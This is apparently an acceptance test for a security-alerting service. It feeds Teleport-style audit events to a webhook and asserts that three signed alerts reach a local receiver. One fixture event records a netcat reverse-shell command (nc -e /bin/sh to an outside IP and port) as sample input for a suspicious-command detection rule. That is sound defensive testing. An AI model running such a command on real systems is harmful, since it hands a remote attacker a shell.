import assert from 'node:assert/strict';
import { createServer, type Server } from 'node:http';
import { after, before, test } from 'node:test';
import { createMetrics, createSecretBox, uuidv7, verifyWebhookSignature } from '@tai/core';
import pino from 'pino';
import { loadWorkerConfig } from '../apps/worker/src/config.js';
import { startWorker, type RunningWorker } from '../apps/worker/src/worker.js';
import { setupApp, TEST_SECRETS_KEY, type TestApp } from './support/app.js';

// The acceptance scenario: corpus-shaped events posted to the webhook produce exactly the expected
// alerts at a local webhook receiver, once each, within 10 s, signed.
let t: TestApp;
let worker: RunningWorker;
let receiver: Server;
let receiverUrl: string;
const received: Array<{ at: number; body: string; headers: Record<string, string | string[] | undefined> }> = [];
const SIGNING_SECRET = 'whsec_acceptance-test-signing-secret';
let token: string;

before(async () => {
  t = await setupApp();
  receiver = createServer((req, res) => {
    let body = '';
    req.on('data', (d: Buffer) => { body += d; });
    req.on('end', () => {
      received.push({ at: Date.now(), body, headers: req.headers });
      res.writeHead(200).end('ok');
    });
  });
  await new Promise<void>((r) => receiver.listen(0, '127.0.0.1', () => r()));
  const address = receiver.address();
  receiverUrl = `http://127.0.0.1:${typeof address === 'object' && address ? address.port : 0}/hook`;
  const box = createSecretBox(TEST_SECRETS_KEY);
  await t.db.repos.destinations.create({
    tenantId: t.tenant.tenantId, id: uuidv7(), name: 'soc webhook', kind: 'webhook', config: { url: receiverUrl },
    sealedSecret: box.seal(JSON.stringify({ signingSecret: SIGNING_SECRET })), minSeverity: 'low', enabled: true, now: new Date(),
  });
  const res = await t.tenant.call({ method: 'POST', url: '/v1/sources', payload: { type: 'teleport_webhook', name: 'prod', config: { clusterName: 'prod.example.com' } } });
  ({ token } = res.json().webhook);
  const config = loadWorkerConfig({ DATABASE_URL: t.db.url, METRICS_PORT: 'off', SECRETS_ENCRYPTION_KEY: TEST_SECRETS_KEY, DETECTION_POLL_MS: '100', DELIVERY_POLL_MS: '100', DESTINATION_ALLOW_PRIVATE_NETWORKS: 'true', PUBLIC_URL: 'https://audit.example.test' });
  worker = await startWorker({ config, logger: pino({ level: 'silent' }), metrics: createMetrics() });
});
after(async () => {
  await worker?.close();
  receiver?.close();
  await t?.close();
});

const iso = (ms: number) => new Date(ms).toISOString();

test('a root login, nc in a session and a self-approved access request reach the webhook receiver as exactly three signed alerts, once each, within 10 s', async () => {
  const now = Date.now();
  const request = '5c0f4d3e-2b1a-4c9d-8e7f-6a5b4c3d2e1f';
  const events = [
    { event: 'session.start', code: 'T2000I', uid: 'acc-1', time: iso(now - 120_000), user: 'alice', login: 'root', sid: 'a1b2c3d4-0000-4000-8000-000000000001', server_id: 'node-1', server_hostname: 'db-1', ei: 0, namespace: 'default', 'addr.remote': '192.0.2.10:50000', proto: 'ssh' },
    { event: 'session.command', code: 'T4000I', uid: 'acc-2', time: iso(now - 110_000), user: 'alice', login: 'root', sid: 'a1b2c3d4-0000-4000-8000-000000000001', server_id: 'node-1', server_hostname: 'db-1', ei: 3, program: 'nc', path: '/usr/bin/nc', argv: ['-e', '/bin/sh', '198.51.100.7', '4444'], return_code: 0, pid: 4242, ppid: 4200, cgroup_id: 9 },
    { event: 'access_request.create', code: 'T5000I', uid: 'acc-3', time: iso(now - 100_000), id: request, user: 'carrie', roles: ['dev'], state: 'PENDING', reason: 'debugging' },
    { event: 'access_request.review', code: 'T5002I', uid: 'acc-4', time: iso(now - 90_000), id: request, reviewer: 'carrie', proposed_state: 'APPROVED', state: 'APPROVED' },
    // Ordinary traffic that fires nothing.
    { event: 'session.start', code: 'T2000I', uid: 'acc-5', time: iso(now - 80_000), user: 'bob', login: 'ubuntu', sid: 'a1b2c3d4-0000-4000-8000-000000000002', server_id: 'node-2', server_hostname: 'web-1', ei: 0, namespace: 'default', 'addr.remote': '192.0.2.11:50000', proto: 'ssh' },
    { event: 'session.command', code: 'T4000I', uid: 'acc-6', time: iso(now - 70_000), user: 'bob', login: 'ubuntu', sid: 'a1b2c3d4-0000-4000-8000-000000000002', server_id: 'node-2', server_hostname: 'web-1', ei: 1, program: 'ls', path: '/usr/bin/ls', argv: ['-la'], return_code: 0, pid: 5, ppid: 4, cgroup_id: 9 },
  ];
  const posted = Date.now();
  const res = await t.app.inject({ method: 'POST', url: `/v1/ingest/teleport/${token}/events.log`, payload: events.map((e) => JSON.stringify(e)).join('\n'), headers: { 'content-type': 'application/x-ndjson' } });
  assert.equal(res.statusCode, 200);

  const deadline = posted + 10_000;
  while (received.length < 3 && Date.now() < deadline) await new Promise((r) => setTimeout(r, 50));
  await new Promise((r) => setTimeout(r, 1_500)); // anything extra would arrive by now
  const rules = received.map((r) => (JSON.parse(r.body) as { rule: { id: string } }).rule.id).sort();
  assert.deepEqual(rules, ['access-request-self-approved', 'teleport-root-login', 'teleport-suspicious-commands']);
  for (const r of received) {
    assert.ok(r.at - posted < 10_000, `delivered ${r.at - posted} ms after posting`);
    assert.ok(verifyWebhookSignature({ body: r.body, timestamp: String(r.headers['x-tai-timestamp']), signature: String(r.headers['x-tai-signature']), signingSecret: SIGNING_SECRET, now: new Date() }));
    const body = JSON.parse(r.body) as { type: string; alert: { url: string; count: number }; events: unknown[] };
    assert.equal(body.type, 'alert');
    assert.match(body.alert.url, /^https:\/\/audit\.example\.test\/alerts\/[0-9a-f-]{36}$/);
    assert.ok(body.events.length >= 1, 'the alert carries its events');
  }
  assert.equal(new Set(received.map((r) => r.headers['x-tai-delivery'])).size, 3, 'three distinct deliveries');
});
